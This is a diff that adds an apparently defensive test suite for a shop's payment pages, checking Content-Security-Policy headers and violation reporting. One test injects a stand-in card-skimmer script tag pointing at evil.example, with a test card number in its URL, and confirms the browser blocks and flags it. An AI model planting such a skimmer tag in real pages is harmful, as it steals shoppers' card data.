@@ -1,0 +1,93 @@
+/**
+ * A script that somebody else puts into the payment page on its way (PCI DSS 11.6.1): it does not run, and the
+ * shop learns of it. The page's policy comes as a meta tag and, the same, as a header with where to report.
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { beforeEach, expect, test } from 'vitest';
+import { flags, policyReports } from '#db/schema.ts';
+import { parts } from '#tools/build.ts';
+import { reportedPages } from '#tools/finish.ts';
+import { useShop } from '../support/shop.ts';
+import { atCheckout, startPaying, widget } from './paying.ts';
+import { becomes, see, useBrowser } from './visitor.ts';
+
+const shop = useShop({ simulators: true });
+const { visit } = useBrowser(shop);
+beforeEach(async () => {
+  await shop.db.write.batch([shop.db.write.delete(policyReports), shop.db.write.delete(flags)]);
+});
+
+const policyOf = (html: string) =>
+  /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
+const counted = async () =>
+  (await shop.db.read.select().from(policyReports))
+    .map(({ page, directive, blocked, count }) => `${page} ${directive} ${blocked} ${count}`)
+    .sort();
+
+test.each(reportedPages)(
+  '%s carries its meta tag’s policy as a header too, and says where to report',
+  async (path) => {
+    const { page } = await visit(1280);
+    const headers = (await page.goto(path))?.headers() ?? {};
+    const meta = policyOf(readFileSync(join(parts.pages.folder, `${path}.html`), 'utf8')).trim();
+    expect(headers['content-security-policy']).toBe(
+      `${meta.replace(/;$/, '')}; frame-ancestors 'none'; report-uri /api/policy-report; report-to csp`,
+    );
+    expect(headers['reporting-endpoints']).toBe('csp="/api/policy-report"');
+  },
+);
+
+test('no other page reports anything', async () => {
+  const { page } = await visit(1280);
+  for (const path of ['/', '/cart', '/orders']) {
+    const headers = (await page.goto(path))?.headers() ?? {};
+    expect([path, headers['content-security-policy'], headers['reporting-endpoints']]).toEqual([
+      path,
+      "frame-ancestors 'none'",
+      undefined,
+    ]);
+  }
+});
+
+/** Changes the page on its way. The browser of these tests is built without the Reporting API: it is left with `report-uri`. */
+const changeOnTheWay = (page: Page, injected: string) =>
+  page.route(/\/(checkout|place-order)$/, async (route) => {
+    const response = await route.fetch();
+    const headers = response.headers();
+    const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? '';
+    const body = (await response.text()).replace('</head>', `${injected}</head>`);
+    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy }, body });
+  });
+
+test('a script that was put into the page does not run, is counted, and raises a flag', async () => {
+  const visitor = await visit(1280);
+  visitor.expectConsole('Content Security Policy');
+  visitor.expectFailure({ path: '/skimmer.js', status: 0 });
+  const { page } = visitor;
+  await changeOnTheWay(
+    page,
+    '<script src="https://evil.example/skimmer.js?card=4111"></script><script>window.skimmed = true</script>',
+  );
+  await page.goto('/checkout');
+  await becomes(counted, ['/checkout script-src-elem evil.example 1', '/checkout script-src-elem inline 1']);
+  expect(await page.evaluate(() => 'skimmed' in window)).toBe(false);
+  const raised = await shop.db.read.select().from(flags);
+  expect(raised.map(({ kind, about }) => `${kind} ${about.split(' ')[0]}`).sort()).toEqual([
+    'page_script_blocked evil.example',
+    'page_script_blocked inline',
+  ]);
+  expect(JSON.stringify(raised)).not.toContain('4111');
+});
+
+test('with the policy as a header, Razorpay’s window opens as before, and nothing is reported', async () => {
+  const { page } = await atCheckout(shop, visit, 390, 'razorpay');
+  const reports: string[] = [];
+  page.on('request', (request) => request.url().includes('policy-report') && reports.push(request.url()));
+  await changeOnTheWay(page, '');
+  await page.reload();
+  await startPaying(page, 'razorpay');
+  await see(widget(page).getByText('₹698.00'));
+  expect([reports, await counted()]).toEqual([[], []]);
+});
